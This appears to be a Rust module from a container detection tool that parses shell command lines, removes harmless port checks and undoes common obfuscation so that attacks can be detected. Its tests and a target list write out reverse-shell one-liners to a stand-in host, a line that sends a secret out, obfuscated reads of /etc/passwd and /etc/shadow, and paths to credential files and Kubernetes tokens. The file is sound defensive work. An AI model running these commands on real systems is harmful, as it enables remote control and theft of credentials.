//! Command lines as a POSIX shell reads them, as far as detections need it.
//!
//! Nothing is executed or looked up, and what a shell determines only at run time is not guessed.

use std::collections::HashMap;

use crate::column::Text;

/// Folders with the programs of an image. A program elsewhere can be anything, regardless of its name.
const USUAL_FOLDERS: &[&str] =
    &["/bin/", "/sbin/", "/usr/bin/", "/usr/sbin/", "/usr/local/bin/", "/usr/local/sbin/"];

const SHELLS: &[&str] = &["sh", "bash", "dash", "ash", "zsh", "ksh", "mksh", "yash"];

/// Maximum length of a text whose variables are expanded.
const LONGEST: usize = 1 << 16;

/// Returns the words of the single program that a command runs: its own words, or those of a script for a shell with
/// `-c` that is one simple command.
///
/// `None` if more happens or may happen: several commands, pipes, redirections, substitutions, variables, assignments,
/// patterns, comments, line breaks and other control characters, or a shell without a script. A program in one of the
/// usual folders is named without its folder; another path stays a path.
pub(crate) fn simple_command<'a>(command: &[Text<'a>]) -> Option<Vec<Text<'a>>> {
    let mut words: Vec<Text<'a>> = match command {
        [] => return None,
        [program, rest @ ..] if SHELLS.contains(&base_name(program)?) => match rest {
            [option, script] if matches!(&**option, "-c" | "-ec" | "-lc") => {
                let words = simple_words(script)?;
                words.into_iter().map(Text::from).collect()
            }
            _ => return None,
        },
        command => command.to_vec(),
    };
    if words.iter().any(|word| word.chars().any(char::is_control)) {
        return None;
    }
    let program = base_name(words.first()?)?.to_owned();
    if SHELLS.contains(&program.as_str()) {
        return None;
    }
    words[0] = program.into();
    Some(words)
}

/// Returns the name of a program without a usual folder; another path unchanged.
fn base_name(program: &str) -> Option<&str> {
    if program.is_empty() {
        return None;
    }
    let name = USUAL_FOLDERS.iter().find_map(|folder| program.strip_prefix(folder));
    Some(name.filter(|name| !name.contains('/')).unwrap_or(program))
}

/// Returns the words of a script that is one simple command.
fn simple_words(script: &str) -> Option<Vec<String>> {
    let mut words = Vec::new();
    let mut word: Option<String> = None;
    let mut characters = script.trim_matches([' ', '\t', '\n']).chars();
    while let Some(character) = characters.next() {
        match character {
            ' ' | '\t' => words.extend(word.take()),
            '\'' => {
                let word = word.get_or_insert_default();
                loop {
                    match characters.next()? {
                        '\'' => break,
                        other => word.push(other),
                    }
                }
            }
            '"' => {
                let word = word.get_or_insert_default();
                loop {
                    match characters.next()? {
                        '"' => break,
                        '$' | '`' => return None,
                        // Before any other character a backslash is literal.
                        '\\' => match characters.next()? {
                            escaped @ ('$' | '`' | '"' | '\\') => word.push(escaped),
                            other => word.extend(['\\', other]),
                        },
                        other => word.push(other),
                    }
                }
            }
            '\\' => word.get_or_insert_default().push(characters.next()?),
            ';' | '&' | '|' | '<' | '>' | '(' | ')' | '$' | '`' | '*' | '?' | '[' | ']' | '{'
            | '}' => return None,
            '#' | '!' | '~' if word.is_none() => return None,
            other if other.is_control() => return None,
            // An assignment, which may select another program: `PATH=/tmp ls`.
            '=' if words.is_empty() => return None,
            other => word.get_or_insert_default().push(other),
        }
    }
    words.extend(word);
    (!words.is_empty()).then_some(words)
}

/// Files and programs that patterns such as `/etc/sh?d?w` stand for.
const GUESSED: &[&str] = &[
    "/etc/shadow",
    "/etc/gshadow",
    "/etc/kubernetes/admin.conf",
    "/etc/kubernetes/super-admin.conf",
    "/etc/kubernetes/pki/ca.key",
    "/etc/kubernetes/pki/sa.key",
    "/root/.kube/config",
    "/root/.ssh/id_rsa",
    "/root/.aws/credentials",
    "/run/secrets/kubernetes.io/serviceaccount/token",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "/bin/sh",
    "/bin/bash",
    "/bin/nc",
    "/usr/bin/nc",
    "/usr/bin/curl",
    "/usr/bin/wget",
    "/usr/bin/nsenter",
    "/usr/sbin/chroot",
];

/// A token of a command line.
#[derive(Debug, PartialEq, Eq)]
enum Token<'t> {
    /// As written, quotes included.
    Word(&'t str),
    /// `<`, `>`, `<>`, `>>`, `>&` …, with the number before it.
    Redirection,
    /// A separator of commands: `;`, `&`, `|`, a line end, or a parenthesis or brace.
    Separator(char),
}

/// Returns the tokens of a command line, each with its position.
fn tokens(line: &str) -> Vec<(usize, Token<'_>)> {
    let bytes = line.as_bytes();
    let mut tokens = Vec::new();
    let mut at = 0;
    while let Some(&byte) = bytes.get(at) {
        let start = at;
        match byte {
            b' ' | b'\t' | b'\r' => at += 1,
            b';' | b'&' | b'|' | b'\n' | b'(' | b')' => {
                at += 1;
                tokens.push((start, Token::Separator(char::from(byte))));
            }
            b'<' | b'>' => {
                while matches!(bytes.get(at), Some(b'<' | b'>' | b'&' | b'|')) {
                    at += 1;
                }
                tokens.push((start, Token::Redirection));
            }
            _ => {
                let mut quote = None;
                while let Some(&byte) = bytes.get(at) {
                    match (quote, byte) {
                        (None, b'\'' | b'"') => quote = Some(byte),
                        (Some(open), byte) if byte == open => quote = None,
                        (None | Some(b'"'), b'\\') => at += 1,
                        (None, byte) if b" \t\r\n;&|()<>".contains(&byte) => break,
                        _ => {}
                    }
                    at += 1;
                }
                // All characters that end a word are ASCII, but the character after a backslash may not be.
                at = at.min(bytes.len());
                while !line.is_char_boundary(at) {
                    at += 1;
                }
                let word = &line[start..at];
                let is_number = word.bytes().all(|byte| byte.is_ascii_digit());
                if !(is_number && matches!(bytes.get(at), Some(b'<' | b'>'))) {
                    tokens.push((start, Token::Word(word)));
                }
            }
        }
    }
    tokens
}

/// Returns a command line without commands that only test whether a port is open, such as `(echo > /dev/tcp/db/5432)`:
/// only a redirection, or one of `echo`, `true` and `:` without arguments. Connections to the pod itself are also
/// removed.
///
/// A redirection that anything else can use stays: of a program, of `exec`, of a group or a loop.
pub fn without_port_checks(line: &str) -> String {
    if !line.contains("/dev/tcp/") && !line.contains("/dev/udp/") {
        return line.to_owned();
    }
    let tokens = tokens(line);
    let mut kept = String::with_capacity(line.len());
    let (mut from, mut first, mut before) = (0, 0, None);
    loop {
        let end = tokens[first..]
            .iter()
            .position(|(_, token)| matches!(token, Token::Separator(_)))
            .map_or(tokens.len(), |length| first + length);
        let place = tokens.get(end).map_or(line.len(), |(place, _)| *place);
        let text = &line[from..place];
        let command: Vec<&Token<'_>> = tokens[first..end].iter().map(|(_, token)| token).collect();
        // A redirection after a closing bracket applies to everything in the brackets.
        if before != Some(')') && is_port_check(&command) {
            kept.push(' ');
        } else {
            kept.push_str(text);
        }
        let Some((_, Token::Separator(separator))) = tokens.get(end) else { break };
        kept.push(*separator);
        (from, first, before) = (place + separator.len_utf8(), end + 1, Some(*separator));
    }
    without_own_ports(&kept)
}

/// Returns whether a command is only a redirection from or to a socket.
fn is_port_check(command: &[&Token<'_>]) -> bool {
    const KEYWORDS: &[&str] = &["if", "while", "until", "do", "then", "else", "elif", "!"];
    let mut rest = command;
    // `sh -c`, followed by its script.
    if let [Token::Word(shell), Token::Word(option), tail @ ..] = rest
        && base_name(shell).is_some_and(|name| SHELLS.contains(&name))
        && matches!(*option, "-c" | "-ec" | "-lc")
    {
        rest = tail;
    }
    while let [Token::Word(keyword), tail @ ..] = rest
        && KEYWORDS.contains(keyword)
    {
        rest = tail;
    }
    if let [Token::Word("echo" | "true" | ":"), tail @ ..] = rest {
        rest = tail;
    }
    let mut asks = false;
    while let [Token::Redirection, Token::Word(target), tail @ ..] = rest {
        let is_socket = target.starts_with("/dev/tcp/") || target.starts_with("/dev/udp/");
        let is_number = target.bytes().all(|byte| byte.is_ascii_digit());
        if !(is_socket || is_number || *target == "/dev/null") {
            return false;
        }
        asks |= is_socket;
        rest = tail;
    }
    asks && rest.is_empty()
}

/// Returns a line without `/dev/tcp/localhost/…` and `/dev/tcp/127.…/…`.
fn without_own_ports(line: &str) -> String {
    let mut kept = String::with_capacity(line.len());
    let mut rest = line;
    loop {
        let found =
            ["/dev/tcp/", "/dev/udp/"].into_iter().filter_map(|folder| rest.find(folder)).min();
        let Some(at) = found else { break };
        let (before, socket) = rest.split_at(at);
        kept.push_str(before);
        let host = socket["/dev/tcp/".len()..].split('/').next().unwrap_or_default();
        let address = host.parse::<std::net::Ipv4Addr>();
        let is_own = host == "localhost" || address.is_ok_and(|address| address.is_loopback());
        let length = "/dev/tcp/".len() + if is_own { host.len() } else { 0 };
        kept.push_str(if is_own { " " } else { &socket[..length] });
        rest = &socket[length..];
    }
    kept.push_str(rest);
    kept
}

/// Returns a command line after a shell's expansion: quotes, backslashes, `$'\x41'`, `$IFS`, empty parameters such as
/// `$@`, braces such as `{cat,/etc/passwd}` and variables that the line itself sets. Detours in paths (`//`, `/./`,
/// `/../`) are removed. After a pattern that stands for a credential file or a relevant program, that path is inserted.
///
/// ```
/// # use podtrail_event::as_run;
/// assert_eq!(as_run(r#"sh -c c''at${IFS}/etc/sh"ado"\w"#), "sh -c cat /etc/shadow");
/// assert_eq!(as_run("a=/etc/; $'\\x63at' ${a}shadow"), "a=/etc/; cat /etc/shadow");
/// ```
pub fn as_run(line: &str) -> String {
    let mut run = String::with_capacity(line.len());
    let mut variables: HashMap<&str, String> = HashMap::new();
    // The start of the current word in `run`, and in `line`.
    let (mut word, mut source) = (0, 0);
    let mut rest = line;
    loop {
        let next = rest.chars().next();
        let place = line.len() - rest.len();
        let ends = next.is_none_or(|c| c.is_whitespace() || ";&|()<>".contains(c));
        if ends {
            finish_word(&mut run, word, &line[source..place], &mut variables);
        }
        let Some(character) = next else { break };
        let mut taken = character.len_utf8();
        match character {
            '\'' | '"' => {}
            '\\' => {
                // The escaped character is literal; an escaped line end is removed.
                if let Some(escaped) = rest[1..].chars().next() {
                    taken += escaped.len_utf8();
                    if escaped != '\n' {
                        run.push(escaped);
                    }
                }
            }
            '$' => taken = expand(rest, &variables, &mut run),
            other => run.push(other),
        }
        rest = &rest[taken..];
        if ends {
            (word, source) = (run.len(), line.len() - rest.len());
        }
    }
    run
}

/// Ends a word: expands its braces, and records its assignment.
fn finish_word<'a>(
    run: &mut String,
    start: usize,
    source: &'a str,
    variables: &mut HashMap<&'a str, String>,
) {
    let word = run[start..].to_owned();
    let list = word.strip_prefix('{').and_then(|word| word.strip_suffix('}'));
    let parts: Vec<&str> = match list {
        Some(list) if list.contains(',') => list.split(',').collect(),
        _ => vec![&word],
    };
    run.truncate(start);
    for (index, part) in parts.into_iter().enumerate() {
        if index > 0 {
            run.push(' ');
        }
        if !part.contains('/') || part.contains("://") {
            run.push_str(part);
            continue;
        }
        let path = plain_path(part);
        run.push_str(&path);
        for known in GUESSED.iter().filter(|known| is_meant(&path, known)) {
            run.push(' ');
            run.push_str(known);
        }
    }
    let Some((name, _)) = source.split_once('=') else { return };
    let is_name =
        !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_');
    if is_name && let Some((_, value)) = word.split_once('=') {
        variables.insert(name, value.to_owned());
    }
}

/// Returns a word without `//`, `/./` and `/../`.
fn plain_path(word: &str) -> String {
    if !["//", "/./", "/../"].iter().any(|detour| word.contains(detour)) {
        return word.to_owned();
    }
    let (before, path) = word.split_at(word.find('/').unwrap_or(0));
    let mut parts: Vec<&str> = Vec::new();
    let mut pieces = path.split('/').peekable();
    while let Some(part) = pieces.next() {
        match part {
            // An empty last part means that the path ends with a slash.
            "" if pieces.peek().is_none() => parts.push(""),
            "" | "." => {}
            ".." => {
                parts.pop();
            }
            part => parts.push(part),
        }
    }
    format!("{before}/{}", parts.join("/"))
}

/// Returns whether a shell pattern stands for a path: it matches and contains at least two literal characters of the
/// last part, so that a folder listing does not match.
fn is_meant(pattern: &str, path: &str) -> bool {
    let is_pattern = |part: &str| part.contains(['*', '?', '[']);
    let spelled = |part: &str| part.chars().filter(char::is_ascii_alphanumeric).count();
    let hidden = pattern.split('/').filter(|part| is_pattern(part));
    pattern.split('/').count() == path.split('/').count()
        && hidden.map(spelled).sum::<usize>() >= 2
        && pattern.split('/').zip(path.split('/')).all(|(pattern, part)| matches(pattern, part))
}

/// Returns whether a part of a path matches a pattern of `*`, `?` and `[…]`.
fn matches(pattern: &str, text: &str) -> bool {
    let (pattern, text) = (pattern.as_bytes(), text.as_bytes());
    let (mut at, mut place, mut star) = (0, 0, None);
    while place < text.len() {
        let step = match pattern.get(at) {
            Some(b'*') => {
                star = Some((at, place));
                at += 1;
                continue;
            }
            Some(b'?') => Some(1),
            Some(b'[') => class(&pattern[at..], text[place]),
            Some(byte) if *byte == text[place] => Some(1),
            _ => None,
        };
        match (step, star) {
            (Some(length), _) => (at, place) = (at + length, place + 1),
            (None, Some((after, from))) => {
                star = Some((after, from + 1));
                (at, place) = (after + 1, from + 1);
            }
            (None, None) => return false,
        }
    }
    pattern[at..].iter().all(|byte| *byte == b'*')
}

/// Returns the length of a class such as `[a-c]` if it contains the byte.
fn class(pattern: &[u8], byte: u8) -> Option<usize> {
    let end = pattern.iter().skip(2).position(|byte| *byte == b']')? + 2;
    let (is_negated, members) = match &pattern[1..end] {
        [b'!' | b'^', members @ ..] => (true, members),
        members => (false, members),
    };
    let is_range =
        members.windows(3).any(|range| range[1] == b'-' && (range[0]..=range[2]).contains(&byte));
    ((is_range || members.contains(&byte)) != is_negated).then_some(end + 1)
}

/// Writes the expansion of a `$` at the beginning of `text`. Returns the number of bytes consumed.
fn expand(text: &str, variables: &HashMap<&str, String>, run: &mut String) -> usize {
    let behind = &text[1..];
    if let Some(quoted) = behind.strip_prefix('\'') {
        return 2 + ansi_c(quoted, run);
    }
    let braced = behind.strip_prefix('{').and_then(|inner| inner.split_once('}'));
    let (name, length) = if let Some((name, _)) = braced {
        (name, name.len() + 3)
    } else {
        let is_part = |byte: &u8| byte.is_ascii_alphanumeric() || *byte == b'_';
        let length = match behind.as_bytes() {
            [b'@' | b'*' | b'0'..=b'9', ..] => 1,
            bytes => bytes.iter().take_while(|byte| is_part(byte)).count(),
        };
        (&behind[..length], length + 1)
    };
    match name {
        "IFS" => run.push(' '),
        "@" | "*" | "1" | "2" | "3" | "4" | "5" | "6" | "7" | "8" | "9" => {}
        name => match variables.get(name) {
            Some(value) if run.len() + value.len() < LONGEST => run.push_str(value),
            _ => run.push_str(&text[..length]),
        },
    }
    length
}

/// Writes the content of `$'…'` after its quote. Returns the number of bytes consumed, with the closing quote.
fn ansi_c(text: &str, run: &mut String) -> usize {
    let mut characters = text.char_indices().peekable();
    while let Some((at, character)) = characters.next() {
        if character == '\'' {
            return at + 1;
        }
        if character != '\\' {
            run.push(character);
            continue;
        }
        let Some((_, escape)) = characters.next() else { break };
        let (base, longest, first) = match escape {
            'x' => (16, 2, None),
            'u' => (16, 4, None),
            '0'..='7' => (8, 2, escape.to_digit(8)),
            other => {
                run.push(match other {
                    'n' => '\n',
                    't' => '\t',
                    'r' => '\r',
                    other => other,
                });
                continue;
            }
        };
        let mut code = first.unwrap_or_default();
        for _ in 0..longest {
            let Some(digit) = characters.peek().and_then(|(_, c)| c.to_digit(base)) else { break };
            code = code * base + digit;
            characters.next();
        }
        run.push(char::from_u32(code).unwrap_or(char::REPLACEMENT_CHARACTER));
    }
    text.len()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(command: &[&str]) -> Option<String> {
        let command: Vec<Text<'_>> = command.iter().map(|word| Text::from(*word)).collect();
        let words = simple_command(&command)?;
        Some(words.iter().map(|word| &**word).collect::<Vec<_>>().join("|"))
    }

    #[test]
    fn one_program_and_its_words() {
        for (command, expected) in [
            (&["ls", "-l", "a b"][..], Some("ls|-l|a b")),
            (&["/bin/ls"], Some("ls")),
            (&["/usr/bin/ls"], Some("ls")),
            (&["/tmp/ls"], Some("/tmp/ls")),
            (&["./ls"], Some("./ls")),
            (&["/bin/../tmp/ls"], Some("/bin/../tmp/ls")),
            (&["sh", "-c", "pg_isready -U app"], Some("pg_isready|-U|app")),
            (&["/bin/sh", "-c", " cat '/etc/hosts' "], Some("cat|/etc/hosts")),
            (&["sh", "-c", "echo \"a b\" c\\ d"], Some("echo|a b|c d")),
            (&["sh", "-c", "\"l\\s\" \"\\$\\\\\""], Some("l\\s|$\\")),
            (&["sh", "-c", "ls \"a\\\nb\""], None),
            (&["sh"], None),
            (&["sh", "-v"], None),
            (&["sh", "-c"], None),
            (&["sh", "-c", "ls", "x"], None),
            (&["sh", "-c", "sh"], None),
            (&["sh", "-c", "/bin/bash -i"], None),
            (&["/tmp/sh", "-c", "ls"], Some("/tmp/sh|-c|ls")),
            (&["sh", "-c", "ls; id"], None),
            (&["sh", "-c", "ls\nid"], None),
            (&["sh", "-c", "ls $(id)"], None),
            (&["sh", "-c", "ls `id`"], None),
            (&["sh", "-c", "ls \"$(id)\""], None),
            (&["sh", "-c", "ls \"`id`\""], None),
            (&["sh", "-c", "ls > /tmp/x"], None),
            (&["sh", "-c", "ls & id"], None),
            (&["sh", "-c", "PATH=/tmp ls"], None),
            (&["sh", "-c", "ls *"], None),
            (&["sh", "-c", "ls 'open"], None),
            (&["sh", "-c", ""], None),
            (&["ls", "a\nb"], None),
            (&[""], None),
            (&[], None),
        ] {
            assert_eq!(words(command).as_deref(), expected, "{command:?}");
        }
    }

    #[test]
    fn only_connection_tests_are_left_out() {
        let sees_socket = |line: &str| without_port_checks(line).contains("/dev/tcp/");
        for line in [
            "sh -c (echo > /dev/tcp/db/5432)",
            "bash -c </dev/tcp/db/5432",
            "until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done",
            "while ! </dev/tcp/db/5432; do sleep 1; done",
            "true &>/dev/null </dev/tcp/db/5432 && echo up",
            "curl x </dev/tcp/127.0.0.1/80",
            "cat </dev/tcp/localhost/80",
        ] {
            assert!(!sees_socket(line), "{line}");
        }
        for line in [
            "bash -i >& /dev/tcp/evil/443 0>&1",
            "bash -c bash -i >& /dev/tcp/evil/443 0>&1",
            "exec 5<>/dev/tcp/evil/443; cat <&5",
            "sh -c >/dev/tcp/evil/443 0>&1 bash",
            ";>/dev/tcp/evil/1 0>&1 bash",
            "(bash -i) <>/dev/tcp/evil/443",
            "{ bash -i; } <>/dev/tcp/evil/443",
            "while read l; do sh -c \"$l\"; done </dev/tcp/evil/443",
            "echo secret > /dev/tcp/evil/443",
            "cat </dev/tcp/localhost.evil.example/80",
            "cat </dev/tcp/127.evil.example/80",
            "echo $(</dev/tcp/evil/443)x; sh </dev/tcp/evil/444",
        ] {
            assert!(sees_socket(line), "{line}: {}", without_port_checks(line));
        }
    }

    #[test]
    fn a_line_is_expanded_like_in_a_shell() {
        for (line, run) in [
            ("cat /etc/passwd", "cat /etc/passwd"),
            ("c\\at /e'tc'/pass\"wd\"", "cat /etc/passwd"),
            ("cat${IFS}/etc/passwd", "cat /etc/passwd"),
            ("cat$IFS$9/etc/passwd", "cat /etc/passwd"),
            ("ca$@t /etc/passwd", "cat /etc/passwd"),
            ("{cat,/etc/passwd}", "cat /etc/passwd"),
            ("$'\\143\\x61t' /etc/passwd", "cat /etc/passwd"),
            ("x=pass; cat /etc/${x}wd", "x=pass; cat /etc/passwd"),
            ("echo ${y} $z", "echo ${y} $z"),
            ("cat /etc/./x//../shadow", "cat /etc/shadow"),
            ("ls /etc//", "ls /etc/"),
            ("curl http://a//b", "curl http://a//b"),
            ("cat /etc/sh?d*", "cat /etc/sh?d* /etc/shadow"),
            ("cat /etc/[s]h[a-c]dow", "cat /etc/[s]h[a-c]dow /etc/shadow"),
            ("cat /etc/[!s]h[!b]dow", "cat /etc/[!s]h[!b]dow"),
            ("ls /etc/* /etc/[", "ls /etc/* /etc/["),
            ("$", "$"),
            ("a\\", "a"),
            ("$'\\x", "\0"),
            ("größe\\ß", "größeß"),
        ] {
            assert_eq!(as_run(line), run, "{line}");
        }
        let doubling = (0..40).fold("a=xxxxxxxx;".to_owned(), |line, _| line + "a=$a$a;");
        assert!(as_run(&doubling).len() < 1 << 24);
    }
}
